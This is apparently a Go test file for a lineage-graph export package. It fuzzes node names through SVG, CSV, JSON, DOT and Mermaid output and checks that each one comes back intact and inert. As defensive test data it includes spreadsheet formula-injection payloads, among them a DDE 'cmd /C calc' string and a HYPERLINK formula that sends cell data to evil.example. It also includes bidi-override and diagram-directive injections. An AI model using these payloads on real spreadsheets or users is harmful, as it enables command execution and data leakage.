package export

import (
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"io"
	"math/rand/v2"
	"os"
	"os/exec"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/lineaged/lineaged/graph/layout"
	"github.com/lineaged/lineaged/lineage"
)

// pictureOf is a picture of a topic whose writer, reader and dataset bear a name, and which a source told of in the
// same words.
func pictureOf(name string) *picture {
	p := &picture{
		Format: formatLineage, Version: formatVersion, Scope: scope{Roots: []string{lineage.Node{Scope: "west", Kind: lineage.TopicNode, Name: "orders"}.ID()}, Direction: "BOTH", Depth: 3, Limit: 300},
		Window: window{midnight, midnight.Add(time.Minute), "10s"},
		Coverage: coverage{
			ObservedFraction: 0.5, GapCount: 1, Gaps: []gap{{name, midnight, midnight.Add(time.Second), name}}, BlindSpots: []blindSpot{{name, name, name}},
		},
		Cut: cut{TotalNodes: 4, Hidden: []hidden{}, Unobserved: []string{}},
	}
	for _, n := range []lineage.Node{
		{Scope: "west", Kind: lineage.TopicNode, Name: "orders"},
		{Scope: name, Kind: lineage.ApplicationNode, Name: name},
		{Scope: "west", Kind: lineage.StreamJobNode, Name: name},
		{Scope: name, Kind: lineage.DatasetNode, Name: name},
	} {
		p.Nodes = append(p.Nodes, &node{is: n, ID: n.ID(), Kind: n.Kind.String(), Name: n.Name, Cluster: name, Owner: name, Tags: []string{name}, Activity: active, Exists: true})
	}
	for _, ends := range [][2]int{{1, 0}, {0, 2}, {2, 3}} {
		f := lineage.Flow{From: p.Nodes[ends[0]].is, To: p.Nodes[ends[1]].is}
		p.Flows = append(p.Flows, &flow{
			is: f, from: p.Nodes[ends[0]], to: p.Nodes[ends[1]], ID: f.ID(), From: f.From.ID(), To: f.To.ID(), Kind: f.Kind().String(), Activity: active, Active: new(true), Counted: exact,
			RecordsPerSecond: new(1.5), Evidence: []evidence{{lineage.Connect, "CONNECT", name, midnight, midnight, name}},
		})
	}
	return p
}

var strangeNames = []string{
	"orders", hostile, strings.Repeat("w", 249), strings.Repeat("مرحبا ", 41), "\u202eorders\u2069\u2069\u2066", "=cmd|' /C calc'!A0", "+1", "-1", "@x", "'", "'=x", "\t=1", "＝1",
	"# no comment", `\N \n \l \"`, `"`, "``", "%%{init: {}}%%", "end", "1. list", "- list", "**bold**", "__init__", "a\r\nb", "a\rb", "\x00", "\x85\u2028\u2029\ufeff\ufffe\uffff", "\xff\xfe", "<![CDATA[", "]]>", "--", "&lt;", "#lt;",
	"日本語のグループ", "👩‍👩‍👧", "subgraph x", "{{", "}}", "|", "-->", " ", "ç̧̧̧",
}

// TestStrangeNamesSurvive writes every name in every form, and reads it back by what others read such forms with.
func TestStrangeNamesSurvive(t *testing.T) {
	for _, name := range strangeNames {
		survives(t, name)
	}
	r := rand.New(rand.NewPCG(1, 2))
	for range 300 {
		b := make([]byte, 1+r.IntN(249))
		for i := range b {
			b[i] = byte(r.IntN(256))
		}
		survives(t, string(b))
		survives(t, strings.ToValidUTF8(string(b), "é\"<\n"))
	}
}

func FuzzNames(f *testing.F) {
	for _, name := range strangeNames {
		f.Add(name)
	}
	f.Fuzz(func(t *testing.T, name string) {
		if name != "" && len(name) <= 1000 { // a node has a name
			survives(t, name)
		}
	})
}

func survives(t *testing.T, name string) {
	t.Helper()
	p := pictureOf(name)
	inSVG(t, p, name)
	inCSV(t, p, name)
	inJSON(t, p, name)
	inNodeGraph(t, p, name)
	inBackstage(t, p, name)
	var b strings.Builder
	if err := p.writeDOT(&b); err != nil {
		t.Fatal(err)
	}
	plainLines(t, name, b.String())
	b.Reset()
	if err := p.writeMermaid(&b); err != nil {
		t.Fatal(err)
	}
	plainLines(t, name, b.String())
	inMermaid(t, p, name, b.String())
}

// inSVG reads the picture as XML: ids are exact, full names are in titles, and nothing in it runs or fetches.
func inSVG(t *testing.T, p *picture, name string) {
	t.Helper()
	write, err := (&question{form: svgForm}).writer(t.Context(), p)
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	if err := write(&b); err != nil {
		t.Fatal(err)
	}
	var ids []string
	var text strings.Builder
	paths := 0
	d := xml.NewDecoder(strings.NewReader(b.String()))
	for {
		token, err := d.Token()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatalf("%q: %v", name, err)
		}
		switch x := token.(type) {
		case xml.CharData:
			text.Write(x)
		case xml.StartElement:
			if !slices.Contains([]string{"svg", "title", "desc", "style", "defs", "marker", "polygon", "rect", "g", "text", "path", "line"}, x.Name.Local) {
				t.Fatalf("%q: the picture has an element %s", name, x.Name.Local)
			}
			if x.Name.Local == "path" {
				paths++
			}
			for _, a := range x.Attr {
				if strings.HasPrefix(a.Name.Local, "on") || a.Name.Local == "href" || strings.Contains(a.Value, "url(") && !strings.HasPrefix(a.Value, "url(#to-") {
					t.Fatalf("%q: the picture has %s=%q", name, a.Name.Local, a.Value)
				}
				if a.Name.Local == "data-id" {
					ids = append(ids, a.Value)
				}
			}
		default:
		}
	}
	if paths != len(p.Flows) {
		t.Fatalf("%q: %d paths for %d flows", name, paths, len(p.Flows))
	}
	for _, n := range p.Nodes {
		if !slices.Contains(ids, n.ID) || !strings.Contains(text.String(), visible(n.Name)) {
			t.Fatalf("%q: %s is not in the picture", name, n.ID)
		}
	}
}

func inCSV(t *testing.T, p *picture, name string) {
	t.Helper()
	var b strings.Builder
	if err := p.writeCSV(&b); err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(strings.NewReader(b.String()))
	r.Comment = '#'
	rows, err := r.ReadAll()
	if err != nil || len(rows) != 1+len(p.Nodes)+len(p.Flows) {
		t.Fatalf("%q: %d rows, %v", name, len(rows), err)
	}
	for i, n := range p.Nodes {
		row := rows[1+i]
		if back, err := lineage.ParseNodeID(row[1]); err != nil || back != n.is || unguarded(row[3]) != visible(n.Name) {
			t.Fatalf("%q: read back as %v, %q, %v", name, back, row[3], err)
		}
		for _, c := range row {
			if c != "" && strings.ContainsRune("=+-@\t\r", first(c)) {
				t.Fatalf("%q: a spreadsheet calculates %q", name, c)
			}
		}
	}
}

// TestCommentsOfCSV reads comments as a spreadsheet does that knows none: it cuts them into cells as it does all lines,
// in some countries at semicolons.
func TestCommentsOfCSV(t *testing.T) {
	for _, foreign := range []string{
		`orders,=HYPERLINK("http://evil.example/?"&A1),x`, "a, =1+1", "a;@SUM(1+1)*cmd|' /C calc'!A0", "a; +1", "a,\t-1", `a,"=1"`, `a, "=1`, "a,＝1", "a,=1",
	} {
		var b strings.Builder
		if err := pictureOf(foreign).writeCSV(&b); err != nil {
			t.Fatal(err)
		}
		for line := range strings.SplitSeq(b.String(), "\r\n") {
			if !strings.HasPrefix(line, "# ") {
				break // the rows
			}
			for _, cell := range strings.FieldsFunc(line, func(r rune) bool { return strings.ContainsRune(",;\t", r) }) {
				if c := strings.TrimSpace(cell); strings.ContainsAny(c, `"`) || strings.ContainsRune("=+-@＝＋－＠", first(c)) {
					t.Errorf("%q: a spreadsheet calculates %q of %q", foreign, cell, line)
				}
			}
		}
	}
}

// TestRowsOfCSV reads rows as a spreadsheet does that cuts lines at semicolons, or at semicolons and commas: no cell is
// a formula, and names can be had back.
func TestRowsOfCSV(t *testing.T) {
	for _, name := range append([]string{
		`x;=HYPERLINK("http://evil.example/?"&A1)`, "x; +1", "x;\u00a0-1", "x;@SUM(1+1)*cmd|' /C calc'!A0", "x;=1,y", "=1;=2", ";=1", "x;;=1", "x;＝1", `x;"=1"`, `x; "=1`, `x;"";=1`, `,"x;=1`,
		"x;'=1", "x;''", "x;y", "x, =1", " =1", "' =1",
	}, strangeNames...) {
		p := pictureOf(name)
		var b strings.Builder
		if err := p.writeCSV(&b); err != nil {
			t.Fatal(err)
		}
		inCSV(t, p, name)
		for _, separators := range []string{";", ",;\t"} {
			for _, c := range cells(b.String(), separators+"\n") {
				if c != "" && strings.ContainsRune("=+-@＝＋－＠", first(strings.TrimSpace(c))) {
					t.Errorf("%q: a spreadsheet that cuts at %q calculates %q", name, separators, c)
				}
			}
		}
	}
}

// cells cuts a text as spreadsheets do: a cell that begins with a quote goes on to the quote that ends it, two of them
// being one within it, and takes along what follows.
func cells(text, separators string) (out []string) {
	cell, quoted, begun := "", false, false
	for rest := text; rest != ""; {
		r, size := utf8.DecodeRuneInString(rest)
		rest = rest[size:]
		switch {
		case r == '"' && quoted && strings.HasPrefix(rest, `"`):
			cell, rest = cell+`"`, rest[1:]
		case r == '"' && (quoted || !begun):
			quoted, begun = !quoted, true
		case !quoted && strings.ContainsRune(separators, r):
			out, cell, begun = append(out, cell), "", false
		default:
			cell, begun = cell+string(r), true
		}
	}
	return append(out, cell)
}

// unguarded is a cell without what keeps it, and its parts between semicolons, from being formulas.
func unguarded(c string) string {
	parts := strings.Split(c, ";")
	for i, part := range parts {
		if word := strings.TrimLeftFunc(part, unicode.IsSpace); strings.HasPrefix(word, "'") {
			parts[i] = part[:len(part)-len(word)] + word[1:]
		}
	}
	return strings.Join(parts, ";")
}

func inJSON(t *testing.T, p *picture, name string) {
	t.Helper()
	var b strings.Builder
	if err := p.writeJSON(&b); err != nil {
		t.Fatal(err)
	}
	var back struct {
		Nodes []struct{ ID, Name string }
		Flows []struct{ ID string }
	}
	if err := json.Unmarshal([]byte(b.String()), &back); err != nil || len(back.Nodes) != len(p.Nodes) || len(back.Flows) != len(p.Flows) {
		t.Fatalf("%q: %d nodes, %d flows, %v", name, len(back.Nodes), len(back.Flows), err)
	}
	for i, n := range back.Nodes {
		is, err := lineage.ParseNodeID(n.ID)
		if err != nil || is != p.Nodes[i].is || utf8.ValidString(is.Name) && n.Name != is.Name {
			t.Fatalf("%q: read back as %v, %q, %v", name, is, n.Name, err)
		}
	}
}

// plainLines looks that no name begins a line of its own, steers a terminal or turns what follows.
func plainLines(t *testing.T, name, text string) {
	t.Helper()
	for _, r := range text {
		if r == utf8.RuneError || r != '\n' && r != 0x2068 && r != 0x2069 && steers(r) {
			t.Fatalf("%q: the text has %U", name, r)
		}
	}
}

// inMermaid looks that labels hold nothing which ends them or means something, and can be read back.
func inMermaid(t *testing.T, p *picture, name, text string) {
	t.Helper()
	for line := range strings.Lines(text) {
		line = strings.TrimSpace(line)
		if strings.HasPrefix(line, "%%{") || strings.HasPrefix(line, "%% ") && strings.ContainsAny(line, "{}") {
			t.Fatalf("%q: a directive: %s", name, line)
		}
		if !strings.HasPrefix(line, "n") {
			continue
		}
		_, label, ok := strings.Cut(line, `"`)
		end := strings.IndexByte(label, '"')
		if !ok || strings.Count(line, `"`) != 2 || strings.ContainsAny(strings.ReplaceAll(label[:end], "<br/>", ""), "<>`*{}[]|\\&~\"'") {
			t.Fatalf("%q: a label that means something: %s", name, line)
		}
	}
	if n := strings.Count(text, " is "+p.Nodes[1].ID+"\n"); n != 1 {
		t.Fatalf("%q: its id stands %d times", name, n)
	}
}

// TestRealDOT has Graphviz read the names.
func TestRealDOT(t *testing.T) {
	dot, err := exec.LookPath("dot")
	if err != nil {
		if ci := os.Getenv("CI"); ci != "" && ci != "0" && ci != "false" {
			t.Fatal("missing: dot (apt-get install graphviz); CI is set, so this is a failure")
		}
		t.Skip("SKIPPED, no Graphviz: missing dot (apt-get install graphviz)")
	}
	for _, name := range strangeNames {
		p := pictureOf(name)
		var in, said strings.Builder
		if err := p.writeDOT(&in); err != nil {
			t.Fatal(err)
		}
		for _, form := range []string{"-Tjson", "-Tsvg"} {
			cmd := exec.CommandContext(t.Context(), dot, form)
			cmd.Stdin, cmd.Stderr = strings.NewReader(in.String()), &said
			out, err := cmd.Output()
			if err != nil {
				t.Fatalf("%q: dot %s: %v\n%s\n%s", name, form, err, said.String(), in.String())
			}
			if form == "-Tsvg" {
				drawn(t, name, out)
				continue
			}
			var read struct{ Objects []struct{ Name string } }
			if err := json.Unmarshal(out, &read); err != nil {
				t.Fatalf("%q: %v", name, err)
			}
			for _, n := range p.Nodes {
				if !slices.ContainsFunc(read.Objects, func(o struct{ Name string }) bool { return o.Name == n.ID }) {
					t.Errorf("%q: dot does not have %s", name, n.ID)
				}
			}
		}
	}
}

// drawn looks that what dot draws is XML, and shows a name as it is.
func drawn(t *testing.T, name string, svg []byte) {
	t.Helper()
	shown := false
	d := xml.NewDecoder(strings.NewReader(string(svg)))
	for {
		token, err := d.Token()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatalf("%q: what dot draws is no XML: %v", name, err)
		}
		if x, ok := token.(xml.StartElement); ok {
			for _, a := range x.Attr {
				value := strings.ReplaceAll(a.Value, "\u00a0", " ") // as dot writes the second of two spaces
				shown = shown || strings.HasPrefix(value, isolated(name)+" (application, ")
			}
		}
	}
	if !shown {
		t.Errorf("%q: dot shows it otherwise:\n%s", name, svg)
	}
}

// TestActivity tells the answers apart that look alike in a figure.
func TestActivity(t *testing.T) {
	logs := []evidence{{kind: lineage.AuditLog}, {kind: lineage.AuthorizerLog}}
	for _, x := range []struct {
		flow                     flow
		estimated                bool
		activity, counted, label string
	}{
		{flow{Active: new(true), RecordsPerSecond: new(1234.0)}, false, active, exact, "1.23 k/s"},
		{flow{Active: new(true), RecordsPerSecond: new(0.001)}, false, active, exact, "<0.01/s"},
		{flow{Active: new(true), RecordsPerSecond: new(0.0)}, false, active, exact, "0/s"},
		{flow{Active: new(true)}, false, active, notMeasurable, notMeasurable},
		{flow{Active: new(true), RecordsPerSecond: new(2.0), Evidence: []evidence{{Detail: "at most: markers"}}}, true, active, atMost, "≤ 2/s"},
		{flow{Active: new(true), RecordsPerSecond: new(2.0), Evidence: []evidence{{Detail: "at least: more"}}}, true, active, atLeast, "≥ 2/s"},
		{flow{Active: new(true), RecordsPerSecond: new(2.0), Evidence: []evidence{{Detail: "at most or at least"}}}, true, active, estimated, "~2/s"},
		{flow{Active: new(false), Records: new(int64(0)), RecordsPerSecond: new(0.0)}, false, inactive, exact, inactive},
		{flow{Active: new(false), Live: new(false), Records: new(int64(0))}, false, inactive, exact, nobodyReads},
		{flow{RecordsPerSecond: new(6.0)}, true, aboutThen, estimated, "~6/s"},
		{flow{}, false, unobserved, notKnown, unobserved},
		{flow{Evidence: logs}, false, allowed, notKnown, allowed},
	} {
		f := x.flow
		f.is = lineage.Flow{From: lineage.Node{Kind: lineage.TopicNode}, To: lineage.Node{Kind: lineage.ApplicationNode}}
		f.Activity = activityOf(f.Active, f.RecordsPerSecond, f.Evidence)
		f.Counted = countedOf(&f, x.estimated)
		if f.Activity != x.activity || f.Counted != x.counted || f.label() != x.label {
			t.Errorf("%+v: %s, %s, %s, want %s, %s, %s", x.flow, f.Activity, f.Counted, f.label(), x.activity, x.counted, x.label)
		}
	}
	for fraction, want := range map[float64]string{0: "0 %", 0.0001: "<0.1 %", 0.5: "50 %", 0.99999: "99.9 %", 1: "100 %"} {
		if got := percent(fraction); got != want {
			t.Errorf("%v is %s, want %s", fraction, got, want)
		}
	}
}

// TestLabelsStayAtTheirEnds draws two flows into one card: their labels stand beside it, apart.
func TestLabelsStayAtTheirEnds(t *testing.T) {
	to := box{360, 0, layout.NodeWidth, layout.NodeHeight}
	cards := []box{to, {0, 0, layout.NodeWidth, layout.NodeHeight}, {0, 400, layout.NodeWidth, layout.NodeHeight}}
	p := newPlacer(cards)
	var all []box
	for _, from := range cards[1:] {
		b := p.place(lineBetween(from, to, 60, atTo, cards), 60, atTo)
		if b.x+b.width > to.x || to.x-b.x-b.width > 20 || b.y < to.y-10 || b.y > to.y+to.height {
			t.Errorf("a label at %+v is not beside the card at %+v", b, to)
		}
		all = append(all, b)
	}
	if all[0].meets(all[1]) {
		t.Errorf("two labels cover each other: %+v", all)
	}
}

// TestShortened keeps both ends of a name.
func TestShortened(t *testing.T) {
	for s, want := range map[string]string{"orders": "orders", "inventory.public.stock_levels": "inventory.p…ock_levels", "": ""} {
		got := shortened(s, 18, 206)
		if got != want || widthOf(got, 18) > 206 {
			t.Errorf("%s is shown as %s, %v wide, want %s", s, got, widthOf(got, 18), want)
		}
	}
}
